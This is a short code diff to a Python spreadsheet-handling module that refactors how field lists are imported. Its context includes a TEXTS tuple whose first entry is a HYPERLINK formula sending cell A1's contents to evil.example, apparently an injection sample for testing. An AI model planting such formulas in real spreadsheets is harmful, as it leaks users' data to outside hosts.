@@ -14,8 +14,12 @@ from typing import Any
 import openpyxl
 from openpyxl.utils.escape import unescape
 
-from selfeval_xl.domain.layout import BUDGET, BUDGET_FIELDS, INDICATOR_FIELDS, INDICATORS, PROJECT, PROJECT_FIELDS
+from selfeval_xl.domain import layout
+from selfeval_xl.domain.layout import BUDGET, INDICATORS, PROJECT, PROJECT_FIELDS
 from selfeval_xl.storage import resources
+
+BUDGET_FIELDS = layout.present(layout.BUDGET_FIELDS, ())
+INDICATOR_FIELDS = layout.present(layout.INDICATOR_FIELDS, ())
 
 TEXTS = (
     '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
